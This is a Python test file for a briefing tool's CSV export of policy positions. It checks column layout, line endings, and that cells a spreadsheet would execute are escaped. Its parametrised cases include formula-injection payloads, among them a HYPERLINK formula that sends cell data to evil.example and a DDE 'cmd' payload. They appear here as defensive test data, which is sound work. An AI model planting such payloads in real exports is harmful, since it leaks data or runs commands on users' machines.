import codecs
import csv
import io

import msgspec
import pytest
from hypothesis import given, strategies as st

from briefing.exchange.positions import Row
from briefing.exchange.positions_csv import as_it_was, harmless, written
from briefing.model import Party, Position
from briefing.text import clean
from tests.note.records import HEARD, POSITION, SOURCES
from tests.strategies import structs, texts


def _rows(content: bytes) -> list[dict[str, str]]:
    """The rows of a file as a spreadsheet takes them, quotes that make a cell harmless gone."""
    assert content.startswith(codecs.BOM_UTF8)
    text = io.StringIO(content.decode("utf-8-sig"), newline="")
    return [
        {name: as_it_was(cell) for name, cell in row.items()}
        for row in csv.DictReader(text, strict=True)
    ]


def test_a_row_tells_who_holds_what_since_when_and_where_it_is_written() -> None:
    row = Row(position=POSITION, question="Listed in public?", sources=(SOURCES["programme"],))

    assert [
        {
            "Holder": "Lantern Institute",
            "Words": "A public list of ships makes repair quicker.",
            "Stance": "supports",
            "Question or topic": "Listed in public?",
            "Forum": "",
            "Event": "",
            "Date": "2030-11-04",
            "Document": "",
            "Paragraph": "",
            "In the name of": "",
            "Said with them": "",
            "Source": "Programme of Cable Week",
            "Source date": "1 Apr 2031",
            "Address": "https://fsc.example/programme.pdf",
            "Checked": "yes",
            "Id": POSITION.id,
        }
    ] == _rows(written([row]))


def test_lines_end_as_spreadsheets_want_it() -> None:
    content = written([Row(position=POSITION), Row(position=HEARD)])

    assert 3 == content.count(b"\r\n") == content.count(b"\n")
    assert content.endswith(b'"\r\n')


@pytest.mark.parametrize(
    "cell",
    [
        *(
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "\0=1",
            "＝1",
            "＋1",
            "－1",
            "＠a",
        ),
        '=HYPERLINK("https://evil.example/?"&A1)',
        "=cmd|' /C calc'!A0",
    ],
)
def test_what_a_spreadsheet_would_run_is_text(cell: str) -> None:
    assert f"'{cell}" == harmless(cell)
    assert cell == as_it_was(harmless(cell))


@pytest.mark.parametrize("cell", ["", "a=1", "'tis", "1-2", "Who pays?", " "])
def test_what_is_no_formula_stays_as_it_is(cell: str) -> None:
    assert cell == harmless(cell) == as_it_was(cell)


@given(texts() | st.text(alphabet="'=+-@\t\ra", max_size=6))
def test_a_cell_reads_back_as_it_was_and_is_never_a_formula(cell: str) -> None:
    assert cell == as_it_was(harmless(cell))
    assert harmless(cell)[:1] not in tuple("=+-@\t\r")


@given(structs(Position))
def test_whatever_a_position_says_is_one_row_and_no_formula(position: Position) -> None:
    content = written([Row(position=position, question=position.claim, event=position.holder)])

    (row,) = _rows(content)
    assert clean(position.claim) == row["Words"]
    assert clean(position.holder) == row["Holder"]
    (_, cells) = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_a_question_stands_before_a_topic_and_all_who_said_it_are_told() -> None:
    aligned = tuple(Party(key=f"k{n}", name=f"Body {n}") for n in (1, 2))
    position = msgspec.structs.replace(POSITION, topic="Cables", aligned=aligned)

    (asked, topical) = _rows(
        written([Row(position=position, question="Who pays?"), Row(position=position)])
    )

    assert ("Who pays?", "Cables") == (asked["Question or topic"], topical["Question or topic"])
    assert "Body 1; Body 2" == asked["Said with them"]
